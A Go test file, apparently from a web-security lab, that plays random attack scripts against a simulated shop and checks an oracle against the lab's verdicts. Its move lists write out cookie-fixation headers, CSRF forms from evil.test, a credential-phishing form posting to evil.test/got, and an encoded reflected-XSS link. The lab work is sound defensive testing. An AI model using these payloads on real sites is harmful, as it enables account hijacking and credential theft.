package scenarios

import (
	"flag"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"fixlab/lab"
	"fixlab/lab/defence"
	"fixlab/lab/event"
	"fixlab/lab/script"
	"fixlab/lab/server"
)

// The oracle is a second witness of a run, and shares no code with the judge: it
// looks at the pages that each person was shown, at what lies in the store and in
// the jars at the end of each step, and for canaries there. Everything that is a
// person's has a name that occurs nowhere else. It is asked about random scripts.

var oracleRuns = flag.Int("oracle", 0, "how many random scripts TestOracle plays; 0 for a part of them")

// A witness is what the oracle saw.
type witness struct {
	shownToMallory string // a canary of Alice's on a page that Mallory was shown
	shownToAlice   string // one of Mallory's on a page of Alice's account, or a page of Mallory's account
	account        bool   // shownToMallory is an account
	planted        string // a value of Mallory's in Alice's jar
	poisoned       string // what Mallory wrote in a record that is open to Alice's account
	knowingly      bool   // Alice typed the secret of Mallory's account
}

// Canaries: names that only the one or the other writes.
const (
	hersAlice   = "pear-of-alice"
	hersMallory = "bomb-of-mallory"
	gnome       = "gnome" // in the route form-id
)

func isMallorys(text string) bool {
	return strings.Contains(text, hersMallory) || strings.Contains(text, gnome)
}

// watch looks at a run.
func watch(t *lab.Trace) (w witness) {
	accounts := map[string][]string{"alice": {"alice", "carol"}, "mallory": {"mallory", "mona"}}
	var tokens []string // that Alice was the first to be shown
	var seen []string   // tokens that Mallory was shown before
	held := map[string]bool{}
	for _, f := range t.Frames {
		if f.Step.Who == "server" {
			continue
		}
		if f.Step.Who == "alice" && slices.Contains([]string{"post", "submit"}, f.Step.Verb) && strings.Contains(f.Step.String(), "user=mallory") {
			w.knowingly = true
		}
		for _, c := range f.State.Browser("mallory").Jar {
			held[c.Value] = true
		}
		for _, k := range f.State.Knows {
			held[k.Value] = true
		}
		for _, c := range f.State.Browser("alice").Jar {
			if value := c.Value; value != "" && held[value] && f.Step.Who != "mallory" {
				w.planted = value
			}
		}
		for _, r := range f.State.Rows {
			for _, v := range r.Data {
				if slices.Contains(accounts["alice"], r.User) && isMallorys(v.Value) {
					w.poisoned = v.Value
				}
			}
		}
		if !slices.ContainsFunc(f.Events, func(e event.Event) bool { return e.Kind == event.Request && e.Message.To == "shop.example" }) {
			continue
		}
		page := f.State.Browser(f.Step.Browser())
		if !strings.HasPrefix(page.URL, "https://shop.example/") && !strings.HasPrefix(page.URL, "http://shop.example/") || strings.Contains(page.URL, "/search") || strings.Contains(page.URL, "evil") {
			continue
		}
		whose := ""
		var items []string
		for _, b := range page.Page {
			text, account := strings.CutPrefix(b.Text, "The account of ")
			owner, basket := strings.CutSuffix(b.Text, "'s basket")
			switch {
			case account:
				whose = strings.TrimSuffix(text, ".")
			case basket:
				whose = owner
			case b.Tag == "li":
				items = append(items, b.Text)
			}
		}
		token := ""
		for _, e := range f.Events {
			if e.Kind == event.Response && e.Message.From == "shop.example" {
				if _, rest, ok := strings.Cut(e.Message.Raw, `name="token" value="`); ok {
					token, _, _ = strings.Cut(rest, `"`)
				}
			}
		}
		switch f.Step.Who {
		case "mallory":
			if slices.Contains(accounts["alice"], whose) {
				w.shownToMallory, w.account = whose, true
			}
			for _, i := range items {
				if strings.Contains(i, hersAlice) && w.shownToMallory == "" {
					w.shownToMallory = i
				}
			}
			if token != "" && slices.Contains(tokens, token) && w.shownToMallory == "" {
				w.shownToMallory = token
			}
			seen = append(seen, token)
		case "alice":
			if slices.Contains(accounts["mallory"], whose) {
				w.shownToAlice = whose
			}
			for _, i := range items {
				if slices.Contains(accounts["alice"], whose) && isMallorys(i) {
					w.shownToAlice = i
				}
			}
			if token != "" && !slices.Contains(seen, token) {
				tokens = append(tokens, token)
			}
		}
	}
	return w
}

// objects returns what the oracle has against a verdict, "" for nothing.
func objects(t *lab.Trace) string {
	v, w := t.Verdict, watch(t)
	holds := func(outcomes ...event.Outcome) bool { return slices.ContainsFunc(outcomes, v.Holds) }
	switch {
	case w.shownToMallory != "" && !holds(event.Hijacked, event.HijackedWithAccount, event.Exposed, event.Zombie, event.Impersonated):
		return fmt.Sprintf("Mallory was shown %s of Alice's", w.shownToMallory)
	case w.account && !holds(event.Hijacked, event.HijackedWithAccount, event.Zombie, event.Impersonated):
		return fmt.Sprintf("Mallory was shown the account of %s", w.shownToMallory)
	case w.shownToAlice != "" && !w.knowingly && !holds(event.Trapped, event.Poisoned, event.Impersonated): // of the last no session is asked
		return fmt.Sprintf("Alice was shown %s of Mallory's", w.shownToAlice)
	case w.poisoned != "" && !holds(event.Poisoned, event.Forged, event.Hijacked, event.HijackedWithAccount, event.Impersonated):
		return fmt.Sprintf("a record of Alice's account holds %q", w.poisoned)
	case holds(event.NoAttack) && w.planted != "":
		return fmt.Sprintf("it is said that there is no attack, and a value of Mallory's is in Alice's jar: %q", w.planted)
	case holds(event.Exposed) && w.shownToMallory == "" && !slices.ContainsFunc(t.Frames, func(f lab.Frame) bool { return f.Step.Who == "mallory" && f.State.Browser(f.Step.Browser()).URL != "" }):
		return "nobody was shown anything"
	case holds(event.Poisoned) && !isMallorys(everything(t)):
		return "nothing of Mallory's is anywhere"
	case holds(event.Trapped) && w.shownToAlice == "" && !aliceActs(t):
		return "Alice was never shown an account of Mallory's"
	}
	return ""
}

// aliceActs reports whether Alice sent anything that could act in somebody's account.
func aliceActs(t *lab.Trace) bool {
	return slices.ContainsFunc(t.Frames, func(f lab.Frame) bool {
		return f.Step.Who == "alice" && (f.Step.Verb == "post" || f.Step.Verb == "submit" || strings.Contains(f.Step.String(), "/profile"))
	})
}

// everything returns all that was stored or signed in a run.
func everything(t *lab.Trace) string {
	var b strings.Builder
	for _, f := range t.Frames {
		for _, e := range f.Events {
			for _, v := range e.Data {
				b.WriteString(v.Value + " ")
			}
		}
	}
	return b.String()
}

// oracleMoves are what random scripts are made of. A line of several words with
// "|" between them is one of those.
var oracleMoves = strings.Split(strings.TrimSpace(`
mallory get /
mallory get /
mallory copy loot
mallory token
mallory route
mallory route
mallory get /login|mallory get /profile|mallory get /basket|mallory get /transfer
mallory get /profile
mallory get /basket
mallory read csrf token
mallory post /basket item=bomb-of-mallory
mallory post /login user=mallory password=hunter2
mallory post /signup user=mona password=m
mallory post /login user=alice password=correct-horse|mallory post /sso user=alice ticket=ticket-for-alice|mallory post /login user=alice password=wrong
mallory post /logout
mallory paste $cookie=$loot
mallory forget
mallory join alice
mallory@alice copy loot|mallory@alice get /profile|mallory@alice paste $cookie=$loot
mallory serve https://blog.shop.example/ Set-Cookie: $cookie=$loot; Domain=shop.example; Path=/; Secure
mallory serve https://blog.shop.example/ Set-Cookie: $cookie="$loot"; Domain=shop.example; Path=/; Secure
mallory serve https://evil.test/ <form method="post" action="https://shop.example/login"><input name="user" value="mallory"><input name="password" value="hunter2"></form>
mallory serve https://evil.test/ <form method="post" action="https://shop.example/basket"><input name="item" value="bomb-of-mallory"></form>
mallory serve https://evil.test/ <form method="post" action="https://shop.example/logout"></form>
mallory serve https://evil.test/ <form method="post" action="https://evil.test/got"><input name="user"><input name="password"></form>
mallory serve https://evil.test/ <form method="post" action="https://shop.example/transfer"><input name="token" value="$csrf"><input name="to" value="mallory"><input name="amount" value="100"></form>
mallory serve https://evil.test/ <a href="https://shop.example/search?q=%3Cform%20method%3Dpost%20action%3D/basket%3E%3Cinput%20name%3Ditem%20value%3Dbomb-of-mallory%3E%3C/form%3E">Prize</a>
mallory serve https://evil.test/ <a href="https://shop.example/?sid=$$loot">Prize</a>
alice get /
alice get /login
alice get https://blog.shop.example/
alice get https://evil.test/
alice get https://evil.test/
alice click Prize
alice submit
alice submit user=alice password=correct-horse
alice post /login user=alice password=correct-horse
alice post /login user=alice password=correct-horse
alice post /login user=alice password=wrong|alice post /login user=mallory password=hunter2|alice@mallory post /login user=alice password=correct-horse
alice post /sso user=alice ticket=ticket-for-alice|alice post /signup user=carol password=c|alice post /step-up password=correct-horse
alice post /basket item=pear-of-alice
alice get /basket
alice get /profile
alice get /profile
alice get /transfer
alice submit to=bob amount=5
alice post /logout
alice wait 61s|alice wait 400h
alice forget
server deploy
server cache
`), "\n")

// story is an attack in its parts, each of which can go in several ways; " & "
// stands between steps.
var story = strings.Split(strings.TrimSpace(`
alice get /|alice post /basket item=pear-of-alice|alice get /login
mallory get /|mallory post /basket item=bomb-of-mallory|mallory get /login & mallory read csrf token|mallory post /login user=mallory password=hunter2|mallory token
mallory copy loot
mallory route|mallory@alice paste $cookie=$loot|mallory serve https://blog.shop.example/ Set-Cookie: $cookie=$loot; Domain=shop.example; Path=/; Secure & alice get https://blog.shop.example/
alice post /basket item=pear-of-alice|alice get /basket|alice get /login
alice post /login user=alice password=correct-horse|alice post /sso user=alice ticket=ticket-for-alice|alice post /signup user=carol password=c|alice get /
alice get /profile|alice get /basket|alice post /basket item=pear-of-alice|alice get /transfer & alice submit to=bob amount=5
mallory@alice copy loot & mallory paste $cookie=$loot|mallory get /basket|mallory get /login & mallory read csrf token
mallory get /profile|mallory get /basket|mallory get /login|mallory post /basket item=bomb-of-mallory|mallory get /transfer
mallory@alice copy loot|alice copy mine
alice post /logout|alice post /logout|alice get /profile|alice wait 400h & alice get /profile
mallory paste $cookie=$loot|alice paste $cookie=$mine
mallory get /profile|mallory get /basket|mallory get /login|mallory post /logout|alice get /basket
`), "\n")

// A question is a random script and the switches under which it is played.
type question struct {
	header string
	steps  []string
	on     defence.Set
}

// ask makes the question of that number.
func ask(n int) question {
	random := rand.New(rand.NewPCG(11, uint64(n)))
	ids, routes, tokens := server.IDs(), fragmentNames(Routes), []string{"trap", "own", "forged", "oracle"}
	q := question{header: fmt.Sprintf("title: T\nprofile: %s\nroute: %s\ntoken: %s\nbrowser: %s\n\n", ids[n%len(ids)], routes[random.IntN(len(routes))], tokens[random.IntN(len(tokens))], script.Browsers[random.IntN(len(script.Browsers))])}
	pick := func(line string) string {
		one := strings.Split(line, "|")
		return one[random.IntN(len(one))]
	}
	if random.IntN(3) > 0 { // a story, with parts of it left out
		for _, part := range story {
			if random.IntN(4) > 0 {
				q.steps = append(q.steps, strings.Split(pick(part), " & ")...)
			}
		}
		for range random.IntN(4) {
			q.steps = slices.Insert(q.steps, random.IntN(len(q.steps)+1), pick(oracleMoves[random.IntN(len(oracleMoves))]))
		}
	} else {
		q.steps = []string{"mallory let loot=chosen", "mallory let csrf=none"}
		for range 5 + random.IntN(12) {
			q.steps = append(q.steps, pick(oracleMoves[random.IntN(len(oracleMoves))]))
		}
	}
	if random.IntN(3) > 0 {
		for range 1 + random.IntN(3) {
			q.on = q.on.Flip(defence.All[random.IntN(len(defence.All))].Set)
		}
	}
	return q
}

func fragmentNames(list []*script.Fragment) (names []string) {
	for _, f := range list {
		names = append(names, f.Name)
	}
	return names
}

func (q question) text() string {
	return q.header + strings.Join(q.steps, "\n") + "\n"
}

// run plays the script; t is nil when it cannot be played.
func (q question) run() (t *lab.Trace) {
	s, err := script.Parse("oracle", q.text())
	if err == nil {
		s, err = Arrange(s, s.Setup)
	}
	if err == nil {
		t, err = lab.Run(s, q.on)
	}
	if err != nil {
		return nil
	}
	return t
}

// answer returns what the oracle has against the run, "" when it has nothing or
// the script cannot be played.
func (q question) answer() string {
	t := q.run()
	if t == nil {
		return ""
	}
	if objection := objects(t); objection != "" {
		return fmt.Sprintf("%s, and the verdict is %s %v %v", objection, t.Verdict.Outcome, t.Verdict.Also, t.Verdict.Because)
	}
	return ""
}

// smallest leaves out steps and switches as long as the oracle objects.
func (q question) smallest() question {
	for again := true; again; {
		again = false
		for i := range q.steps {
			less := q
			less.steps = slices.Delete(slices.Clone(q.steps), i, i+1)
			if less.answer() != "" {
				q, again = less, true
				break
			}
		}
		for _, d := range defence.All {
			less := q
			if less.on &^= d.Set; q.on.Has(d.Set) && less.answer() != "" {
				q, again = less, true
			}
		}
	}
	return q
}

// TestOracle: the judge and the oracle agree on random scripts over every profile,
// route and switch.
func TestOracle(t *testing.T) {
	count := *oracleRuns
	if count == 0 {
		count = 3000
	}
	told := 0
	outcomes := map[event.Outcome]int{}
	for n := range count {
		q := ask(n)
		if t := q.run(); t != nil {
			outcomes[t.Verdict.Outcome]++
		}
		if q.answer() == "" {
			continue
		}
		q = q.smallest()
		t.Errorf("script %d under %s: %s\n%s", n, q.on, q.answer(), q.text())
		if told++; told == 5 {
			t.Fatal("and perhaps more")
		}
	}
	t.Log(outcomes)
	for _, o := range event.Outcomes {
		if outcomes[o] == 0 {
			t.Errorf("no script of %d ends %s", count, o)
		}
	}
}
